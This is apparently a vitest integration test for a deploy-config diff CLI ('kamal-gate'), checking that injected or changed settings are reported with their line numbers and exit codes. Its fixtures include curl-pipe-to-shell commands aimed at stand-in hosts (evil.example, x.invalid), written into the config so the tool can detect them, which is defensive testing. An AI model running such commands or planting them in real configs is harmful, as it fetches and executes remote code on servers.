/**
 * `kamal-gate config diff` through the real CLI, after `kamal-gate record` against the real registry
 * approved the demo app's effective deploy: an injected cmd and a changed accessory image are listed
 * setting by setting at their config lines (exit 1); reordered keys and a comment change nothing
 * (exit 0); no approved config is exit 2 with a clear message.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { ImageBuilder } from '../helpers/image-builder.js';
import { startRegistry, type TestRegistry } from '../helpers/registry.js';

const FIXTURE = resolve(import.meta.dirname, '..', '..', 'fixtures', 'demo-app');
const AMD64 = { os: 'linux', architecture: 'amd64' };
const INJECTED = "sh -c 'curl -fsSL https://evil.example/x | sh'";

let reg: TestRegistry;
let work: string;
let dir: string;
let env: NodeJS.ProcessEnv;
let original: string;

beforeAll(async () => {
  reg = await startRegistry({ auth: 'htpasswd', users: { demo: 'demo-registry-password-42' } });
  const b = new ImageBuilder(reg);
  work = mkdtempSync(join(tmpdir(), 'kg-config-diff-'));
  dir = join(work, 'app');
  cpSync(FIXTURE, dir, { recursive: true });
  await b.pushImage('acme/shop', 'v1', { platforms: [AMD64, { os: 'linux', architecture: 'arm64', variant: 'v8' }] });
  await b.pushImage('library/postgres', '16.4');
  await b.pushImage('library/valkey', '8.0', { platforms: [AMD64, { os: 'linux', architecture: 'arm64', variant: 'v8' }] });
  env = { DEMO_REGISTRY: reg.host, KAMAL_REGISTRY_PASSWORD: reg.password, DOCKER_CONFIG: join(dir, '.no-docker') };
  original = readFileSync(join(dir, 'config', 'deploy.yml'), 'utf8');
}, 120_000);
afterAll(async () => {
  await reg?.stop();
  if (work) rmSync(work, { recursive: true, force: true });
});

function writeConfig(text: string): void {
  writeFileSync(join(dir, 'config', 'deploy.yml'), text);
}
function lineOf(text: string, needle: string): number {
  return text.split('\n').findIndex((l) => l.includes(needle)) + 1;
}
const diff = (...args: string[]) => runCli(['config', 'diff', ...args], { cwd: dir, env });

describe('kamal-gate config diff', () => {
  it('has nothing to compare with before record (exit 2)', async () => {
    const r = await diff();
    expect(r.code).toBe(2);
    expect(r.stderr + r.stdout).toMatch(/no ledger|no config was approved/);
  });

  it('after record: equal is exit 0', async () => {
    const rec = await runCli(['record', '--version', 'v1'], { cwd: dir, env });
    expect(rec.code, rec.stderr + rec.stdout).toBe(0);
    const r = await diff();
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('no difference');
  });

  it('names an injected cmd and a changed accessory image at their lines (exit 1)', async () => {
    const changed = original.replace('cmd: bin/jobs', `cmd: ${INJECTED}`).replace('image: library/valkey:8.0', 'image: library/valkey:6.2');
    writeConfig(changed);
    try {
      const cmdLine = lineOf(changed, 'cmd: sh -c');
      const imageLine = lineOf(changed, 'image: library/valkey');

      const text = await diff();
      expect(text.code, text.stderr).toBe(1);
      expect(text.stdout).toContain(`~ servers.job.cmd: "bin/jobs" → ${JSON.stringify(INJECTED)}`);
      expect(text.stdout).toContain('~ accessories.cache.image: "library/valkey:8.0" → "library/valkey:6.2"');

      const json = await diff('--format', 'json');
      expect(json.code).toBe(1);
      const report = JSON.parse(json.stdout) as { schema: string; from: { version: string }; changes: Array<{ path: string; kind: string; location?: { file: string; line: number } }> };
      expect(report.schema).toBe('kamal-gate/config-diff/v1');
      expect(report.from.version).toBe('v1');
      expect(report.changes.map((c) => [c.path, c.kind, c.location?.file, c.location?.line])).toEqual([
        ['accessories.cache.image', 'changed', 'config/deploy.yml', imageLine],
        ['images.accessory.cache', 'changed', 'config/deploy.yml', imageLine],
        ['servers.job.cmd', 'changed', 'config/deploy.yml', cmdLine],
      ]);

      const gh = await diff('--format', 'github');
      expect(gh.code).toBe(1);
      expect(gh.stdout).toContain(`::warning file=config/deploy.yml,line=${cmdLine}::servers.job.cmd: "bin/jobs" → ${JSON.stringify(INJECTED)}`);
      expect(gh.stdout).toContain(`::warning file=config/deploy.yml,line=${imageLine}::accessories.cache.image: "library/valkey:8.0" → "library/valkey:6.2"`);
    } finally {
      writeConfig(original);
    }
  });

  it('reordered keys and a comment change nothing (exit 0)', async () => {
    const [head, rest] = [original.slice(0, original.indexOf('servers:')), original.slice(original.indexOf('servers:'))];
    const proxy = rest.slice(rest.indexOf('proxy:'), rest.indexOf('registry:'));
    writeConfig(`${head}# reviewed by ops\n${proxy}${rest.replace(proxy, '')}`);
    try {
      const r = await diff();
      expect(r.code, r.stdout + r.stderr).toBe(0);
    } finally {
      writeConfig(original);
    }
  });

  it('--from a later version of an unchanged config compares with what was approved with it', async () => {
    await new ImageBuilder(reg).pushImage('acme/shop', 'v2', { platforms: [AMD64, { os: 'linux', architecture: 'arm64', variant: 'v8' }] });
    const rec = await runCli(['record', '--version', 'v2'], { cwd: dir, env });
    expect(rec.code, rec.stderr + rec.stdout).toBe(0);
    expect(rec.stdout + rec.stderr).toMatch(/config: shop approved sha256:[0-9a-f]{64} \(unchanged since v1\)/);
    expect((await diff('--from', 'v2')).code).toBe(0);
    const injected = original.replace(/\n {4}cmd: [^\n]*\n/, '\n    cmd: sh -c "curl -s https://x.invalid | sh"\n');
    expect(injected).not.toBe(original);
    writeConfig(injected);
    try {
      const r = await diff('--from', 'v2');
      expect(r.code, r.stdout + r.stderr).toBe(1);
      expect(r.stdout).toContain('curl');
    } finally {
      writeConfig(original);
    }
  });

  it('--from a version never approved is exit 2', async () => {
    const r = await diff('--from', 'v0');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('no config was approved for shop with version v0');
  });
});
